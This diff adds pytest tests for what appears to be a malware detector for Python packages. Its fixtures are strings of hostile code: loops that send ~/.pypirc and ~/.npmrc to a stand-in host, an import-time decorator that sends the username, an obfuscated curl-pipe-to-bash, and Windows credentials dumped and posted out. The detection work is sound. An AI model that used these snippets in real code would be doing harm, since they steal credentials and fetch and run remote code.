@@ -177,3 +177,109 @@ def test_a_start_up_entry_written_by_a_function_nothing_calls_weighs_less() -> N
     )
     rules, _ = _imported(source)
     assert 0 < rules.get("persistence", 0) < 8
+
+
+@pytest.mark.parametrize(
+    "loop",
+    [
+        'for name in ("~/.pypirc", "~/.npmrc"):\n        path = os.path.expanduser(name)\n',
+        'for name in ["~/.pypirc", "~/.npmrc"]:\n        path = os.path.join(os.path.expanduser(name))\n',
+    ],
+    ids=["a name built of the loop's", "the loop's name in a call"],
+)
+def test_credential_files_named_in_a_loop_and_sent_are_credential_exfil(loop: str) -> None:
+    source = (
+        "import os, requests\n"
+        "def sync():\n"
+        f"    {loop}"
+        '        requests.post("https://sync.example.net/t", data=open(path).read())\n'
+    )
+    rules, held = _in_function(source)
+    assert rules.get("credential-exfil") == 10
+    assert held
+
+
+def test_files_named_in_a_loop_that_are_no_credentials_are_not_credential_exfil() -> None:
+    source = (
+        "import os, requests\n"
+        "def sync():\n"
+        '    for name in ("report.csv", "summary.json"):\n'
+        '        requests.post("https://sync.example.net/t", data=open(name).read())\n'
+    )
+    rules, _ = _in_function(source)
+    assert "credential-exfil" not in rules
+
+
+TRACKER = (
+    "import getpass, requests\n"
+    "def track(function):\n"
+    '    requests.get("https://t.example.net/hit?u=" + getpass.getuser())\n'
+    "    return function\n"
+)
+
+
+def test_a_decorator_runs_on_import_when_it_decorates_a_module_level_function() -> None:
+    rules, held = _imported(TRACKER + "@track\ndef main():\n    pass\n")
+    assert rules.get("phone-home") == 10
+    assert held
+
+
+def test_a_decorator_nothing_applies_on_import_does_not_run_then() -> None:
+    rules, held = _imported(TRACKER + "def main():\n    return track(main)\n")
+    assert rules.get("phone-home", 0) < 10
+    assert not held
+
+
+def test_a_command_handed_to_a_process_in_pieces_is_read_in_a_module_nothing_runs() -> None:
+    source = 'import os\ndef update():\n    os.system("cu" + "rl -s htt" + "ps://x.example.net/a | ba" + "sh")\n'
+    rules, held = _in_function(source)
+    assert rules.get("download-run") == 10
+    assert held
+
+
+@pytest.mark.parametrize(
+    ("path", "expected"),
+    [('"/tmp/lib.zip"', True), ('"/opt/vendor/lib"', False)],
+    ids=["the download's path", "another path"],
+)
+def test_a_download_put_on_the_import_path_is_download_exec(path: str, expected: bool) -> None:
+    source = (
+        "import sys, urllib.request\n"
+        'urllib.request.urlretrieve("https://c.example.net/lib.zip", "/tmp/lib.zip")\n'
+        f"sys.path.insert(0, {path})\n"
+    )
+    rules, _ = _imported(source)
+    assert ("download-exec" in rules) is expected
+
+
+SECRET_SENT = (
+    "import requests\n"
+    "class Client:\n"
+    "    def sign(self, path):\n"
+    '        requests.post("https://api.exchange-stats.example.net/v1", json={{"key": self.api_key, {field}}})\n'
+)
+
+
+@pytest.mark.parametrize(
+    ("field", "expected"),
+    [('"secret": self.secret', True), ('"client_secret": self.client_secret', False)],
+    ids=["an exchange client's secret", "OAuth's client secret (token endpoints take it)"],
+)
+def test_an_api_secret_sent_in_a_body_to_an_address_written_in_is_secret_exfil(
+    field: str, expected: bool
+) -> None:
+    rules, held = _in_function(SECRET_SENT.format(field=field))
+    assert ("secret-exfil" in rules) is expected
+    assert held is expected
+
+
+def test_every_stored_windows_credential_sent_out_is_credential_exfil() -> None:
+    source = (
+        "import win32cred, requests\n"
+        "def backup():\n"
+        "    creds = win32cred.CredEnumerate(None, 0)\n"
+        '    requests.post("https://c.example.net/wc", json=[str(c["CredentialBlob"]) for c in creds])\n'
+    )
+    rules, held = _in_function(source)
+    assert rules.get("credential-exfil") == 10
+    assert held
